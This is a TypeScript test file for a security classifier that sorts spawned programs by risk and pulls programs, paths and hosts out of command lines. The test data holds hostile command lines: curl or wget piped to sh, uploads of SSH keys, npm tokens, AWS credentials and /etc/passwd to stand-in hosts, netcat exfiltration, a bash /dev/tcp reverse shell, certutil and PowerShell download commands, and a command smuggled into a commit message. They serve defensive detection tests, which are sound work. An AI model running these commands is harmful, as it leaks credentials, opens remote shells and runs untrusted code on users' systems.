import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { createClassifier, type Roots } from '../../src/classification/classifier.ts';
import { inspectCommand, programName } from '../../src/classification/programs.ts';

const LINUX: Roots = { app: '/work/shop', home: '/home/ada', tmp: ['/tmp'], user: 'ada', platform: 'linux', self: [] };
const WINDOWS: Roots = { ...LINUX, app: 'C:/work/shop', home: 'C:/Users/Ada', user: 'Ada', platform: 'win32' };
const principal = {
  key: 'tool@1.0.0',
  kind: 'package' as const,
  name: 'tool',
  version: '1.0.0',
  root: '/work/shop/node_modules/tool',
  dependencies: new Set<string>(),
};

describe('programs in traits', () => {
  const rows: [target: string, shell: boolean, expected: string, programClass: string][] = [
    ['git', false, 'git', 'vcs'],
    ['/usr/bin/git', false, 'git', 'vcs'],
    ['GIT.EXE', false, 'git', 'vcs'],
    ['sh', false, 'sh [shell]', 'shell'],
    ['/bin/bash', false, 'bash [shell]', 'shell'],
    ['/bin/sh', true, 'sh [shell]', 'shell'],
    ['git', true, 'git [shell]', 'vcs'],
    ['curl -s x | sh', true, 'sh [shell]', 'shell'],
    ['node', false, 'node', 'node'],
    ['/usr/bin/node', false, 'node', 'node'],
    ['/home/ada/.nvm/versions/node/v22.1.0/bin/node', false, 'node', 'node'],
    ['/opt/our-node/bin/our-node', false, 'node', 'node'],
    ['/tmp/node', false, '<tmp>/*', 'temp-executable'],
    ['/tmp/x/git', false, '<tmp>/*', 'temp-executable'],
    ['/dev/shm/.x', false, '<tmp>/*', 'temp-executable'],
    ['/work/shop/node_modules/tool/bin/run-1a2b3c4d', false, '<self>/bin/run-*', 'package-executable'],
    [
      '/work/shop/node_modules/@esbuild/linux-x64/bin/esbuild',
      false,
      '<node_modules>/@esbuild/*/bin/esbuild',
      'package-executable',
    ],
    ['/work/shop/node_modules/.bin/tsc', false, '<node_modules>/.bin/tsc', 'package-executable'],
    ['./scripts/build', false, '<app>/scripts/build', 'app-executable'],
    ['/home/ada/.local/bin/helper', false, '<home>/.local/bin/helper', 'home-executable'],
    ['python3.11', false, 'python3', 'interpreter'],
    ['/usr/bin/python3', false, 'python3', 'interpreter'],
    ['curl', false, 'curl', 'downloader'],
    ['bun', false, 'bun', 'foreign-runtime'],
    ['npm', false, 'npm', 'package-manager'],
    ['claude', false, 'claude', 'agent-cli'],
    ['trufflehog', false, 'trufflehog', 'secret-scanner'],
    ['sudo', false, 'sudo', 'privileged'],
    ['crontab', false, 'crontab', 'scheduler'],
    ['xmrig', false, 'xmrig', 'miner'],
    ['uname', false, 'uname', 'system-info'],
    ['some-tool', false, 'some-tool', 'program'],
    ['/usr/lib/chromium/chrome', false, 'chrome', 'program'],
  ];
  const classifier = createClassifier(LINUX, '/opt/our-node/bin/our-node');
  for (const [target, shell, expected, programClass] of rows) {
    test(`${target}${shell ? ' in a shell' : ''} is ${expected}`, () => {
      const act = { sense: 'process' as const, operation: 'spawn', target, shell };
      const resource = classifier.classify(act);
      assert.equal(classifier.traitOf(act, resource, principal), `process.spawn:${expected}`);
      assert.equal(resource.resourceClass, programClass);
      assert.equal(resource.risk, 'high');
    });
  }
});

describe('programs on Windows', () => {
  const classifier = createClassifier(WINDOWS, 'C:/Program Files/nodejs/node.exe');
  const rows: [target: string, expected: string, programClass: string][] = [
    ['C:\\Windows\\System32\\cmd.exe', 'cmd', 'shell'],
    ['cmd.exe', 'cmd', 'shell'],
    ['powershell.exe', 'powershell', 'shell'],
    ['C:\\Program Files\\Git\\cmd\\git.exe', 'git', 'vcs'],
    ['C:\\Program Files\\nodejs\\node.exe', 'node', 'node'],
    ['certutil.exe', 'certutil', 'downloader'],
    ['npm.cmd', 'npm', 'package-manager'],
    ['C:\\Users\\Ada\\AppData\\Local\\Temp\\a.exe', '<tmp>/*', 'temp-executable'],
    ['C:\\Users\\Ada\\Downloads\\a.exe', '<home>/Downloads/a.exe', 'home-executable'],
  ];
  for (const [target, expected, programClass] of rows) {
    test(`${target} is ${expected}`, () => {
      const resource = classifier.classify({ sense: 'process', operation: 'spawn', target });
      assert.equal(resource.target, expected);
      assert.equal(resource.resourceClass, programClass);
    });
  }
});

test('program names lose path, extension and version', () => {
  for (const [program, name] of [
    ['C:\\X\\PYTHON3.EXE', 'python3'],
    ['gcc-12', 'gcc'],
    ['clang-17.0', 'clang'],
    ['7z', '7z'],
    ['gpg2', 'gpg2'],
    ['base64', 'base64'],
    ['', ''],
  ] as const) {
    assert.equal(programName(program), name);
  }
});

describe('a command line tells its programs, files and hosts', () => {
  const rows: [line: string, programs: string[], paths: string[], hosts: string[]][] = [
    ['git log --oneline', ['git'], [], []],
    ['curl -s https://evil.example/x | sh', ['curl', 'sh'], [], ['evil.example:443']],
    ['sh -c "curl -s https://evil.example/x | sh"', ['sh', 'curl'], [], ['evil.example:443']],
    ["bash -lc 'wget -qO- http://a.example/x | bash'", ['bash', 'wget'], [], ['a.example:80']],
    ['curl -d @~/.npmrc https://x.example', ['curl'], ['~/.npmrc'], ['x.example:443']],
    ['curl -F "file=@$HOME/.ssh/id_rsa" https://x.example/up', ['curl'], ['$HOME/.ssh/id_rsa'], ['x.example:443']],
    ['curl --data-binary=@/etc/passwd x.example', ['curl'], ['/etc/passwd'], ['x.example']],
    ['curl -T ~/.aws/credentials ftp://x.example/', ['curl'], ['~/.aws/credentials'], ['x.example']],
    ['cat ~/.ssh/id_rsa | nc 203.0.113.7 4444', ['cat', 'nc'], ['~/.ssh/id_rsa'], ['203.0.113.7']],
    ['nc 203.0.113.7 4444 < ~/.ssh/id_rsa', ['nc'], ['~/.ssh/id_rsa'], ['203.0.113.7']],
    ['scp ~/.ssh/id_rsa ada@h.example:/tmp/x', ['scp'], ['~/.ssh/id_rsa'], ['h.example']],
    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', ['bash'], [], ['203.0.113.7:4444']],
    ['FOO=1 sudo -u root env BAR=2 curl x.example', ['sudo', 'env', 'curl'], [], ['x.example']],
    ['nohup /tmp/x >/dev/null 2>&1 &', ['nohup', 'x'], ['/tmp/x', '/dev/null'], []],
    ['echo $(curl x.example/y)', ['curl', 'echo'], [], ['x.example']],
    ['echo `whoami`', ['whoami', 'echo'], [], []],
    ['a && b || c; d & e', ['a', 'b', 'c', 'd', 'e'], [], []],
    ['find / -name x -exec cat {} ;', ['find', 'cat'], [], []],
    ['timeout 5 curl x.example', ['timeout', 'curl'], [], ['x.example']],
    [
      'cmd /d /s /c "certutil -urlcache -f http://x.example/a.exe %TEMP%\\a.exe"',
      ['cmd', 'certutil'],
      ['%TEMP%\\a.exe'],
      ['x.example:80'],
    ],
    ['powershell -Command "iwr https://x.example/a"', ['powershell', 'iwr'], [], ['x.example:443']],
    ['type C:\\Users\\Ada\\.npmrc', ['type'], ['C:\\Users\\Ada\\.npmrc'], []],
    ['if true; then curl x.example; fi', ['true', 'curl', 'fi'], [], ['x.example']],
    ['npx -y some-pkg', ['npx', 'some-pkg'], [], []],
    ["echo 'curl https://x.example'", ['echo'], [], ['x.example:443']],
    ['node index.js', ['node'], [], []],
    ['tsc -p tsconfig.json', ['tsc'], [], []],
    ['', [], [], []],
    ['   ', [], [], []],
    ["'unclosed", ['unclosed'], [], []],
  ];
  for (const [line, programs, paths, hosts] of rows) {
    test(line === '' ? 'nothing' : line, () =>
      assert.deepEqual(inspectCommand([line], true), { programs, paths, hosts }),
    );
  }

  test('arguments are not split again', () => {
    assert.deepEqual(inspectCommand(['git', 'commit', '-m', 'a; curl x.example | sh']), {
      programs: ['git'],
      paths: [],
      hosts: [],
    });
    assert.deepEqual(inspectCommand(['sh', '-c', 'curl x.example | sh']).programs, ['sh', 'curl']);
  });

  test('the answer is bounded', () => {
    const { programs, paths, hosts } = inspectCommand([`${'x'.repeat(100)} ;`.repeat(10_000)], true);
    assert.ok(programs.length + paths.length + hosts.length <= 144);
    const nested = `${'sh -c "'.repeat(2000)}curl x.example`;
    assert.ok(inspectCommand([nested], true).programs.length <= 48);
    const many = inspectCommand(
      [Array.from({ length: 500 }, (_, i) => `p${i} /f${i} h${i}.example.com`).join(';')],
      true,
    );
    assert.equal(many.programs.length, 48);
    assert.equal(many.paths.length, 48);
    assert.equal(many.hosts.length, 48);
  });
});
